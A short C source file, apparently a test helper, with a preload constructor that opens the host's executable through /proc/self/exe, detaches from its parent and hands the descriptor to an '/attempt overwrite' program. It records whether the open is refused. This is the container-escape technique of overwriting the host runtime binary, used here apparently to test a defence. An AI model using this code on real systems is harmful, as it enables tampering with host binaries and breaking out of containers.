// SPDX-License-Identifier: GPL-2.0-or-later
/* Preloaded inside: hands the executed file, which is the host's, to who can wait. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void spring(void)
{
	int fd = open("/proc/self/exe", O_RDONLY), result;
	char number[16];

	/* Whoever waits for this process executes the file too, and must be gone first. */
	if (getpid() != 1 && fork() > 0)
		_exit(0);
	setsid();
	result = open("/result", O_WRONLY | O_CREAT | O_TRUNC, 0666);
	dup2(result, 1);
	if (fd < 0) {
		dprintf(1, "refused: open\n");
		_exit(1);
	}
	snprintf(number, sizeof(number), "%d", fd);
	execl("/attempt", "attempt", "overwrite", number, (char *)0);
	_exit(2);
}
